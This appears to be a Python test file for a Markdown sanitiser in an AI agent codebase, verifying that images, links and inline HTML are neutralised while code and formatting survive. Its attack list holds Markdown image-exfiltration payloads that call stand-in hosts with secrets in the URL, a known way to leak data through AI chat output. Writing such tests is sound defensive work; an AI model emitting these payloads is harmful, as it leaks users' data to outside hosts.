"""Untrusted Markdown is neutralised: no image, link or URL survives as markup, while code
blocks, code spans and ordinary formatting are kept. Checked with a real CommonMark parser."""
from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent_core.safe_text import code_fence, code_span, neutralise_markdown

MD = MarkdownIt("commonmark").enable("table")
ATTACKS = [
    "![x](http://127.0.0.1:9/leak?d=secret)",
    "see [here](http://evil/x) now",
    "![a][r]\n\n[r]: http://evil/ref.png",
    "<http://evil/auto> and <img src=http://evil/i.png>",
    "\\![x](http://evil/y)",  # an escaped bang before a live image
    "ValueError: ![x](http://127.0.0.1:9/leak?d=1) `code` ![y](http://e/z)",
    "| a | b |\n|---|---|\n| ![c](http://evil/c) | 1 |",
    "``` \n![x](http://evil/in-fence)\n```\n![y](http://evil/after)",
]


def _inline_kinds(text: str) -> set[str]:
    kinds = set()
    for tok in MD.parse(text):
        for child in tok.children or []:
            kinds.add(child.type)
    return kinds


def test_attacks_lose_their_images_and_links():
    for attack in ATTACKS:
        safe = neutralise_markdown(attack)
        kinds = _inline_kinds(safe)
        assert not kinds & {"image", "link_open", "html_inline"}, (attack, safe, kinds)
        assert "html_block" not in {t.type for t in MD.parse(safe)}


def test_code_and_formatting_are_kept():
    text = "**Mean** is `df[\"x\"].mean()`.\n\n```python\nprint([1, 2])\n```\n- item [1]"
    safe = neutralise_markdown(text)
    assert "```python\nprint([1, 2])\n```" in safe and '`df["x"].mean()`' in safe
    assert "**Mean**" in safe and "\\[1\\]" in safe
    # a url is still readable, as code
    assert "`http://example.com/a`" in neutralise_markdown("go to http://example.com/a")


def test_code_span_and_fence_cannot_be_closed_from_inside():
    span = code_span("a`b``c")
    assert _inline_kinds(span) == {"code_inline"}
    fence = code_fence("```\n![x](http://evil/y)\n```")
    assert [t.type for t in MD.parse(fence)] == ["fence"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["![", "[", "]", "(", ")", "http://e/x", "<", ">", "`", "```",
                                 "\n", " ", "a", "\\", "!", ":", "www.e.com"]), max_size=40))
def test_no_markup_of_any_shape_survives(parts):
    safe = neutralise_markdown("".join(parts))
    assert not _inline_kinds(safe) & {"image", "link_open", "html_inline"}, safe
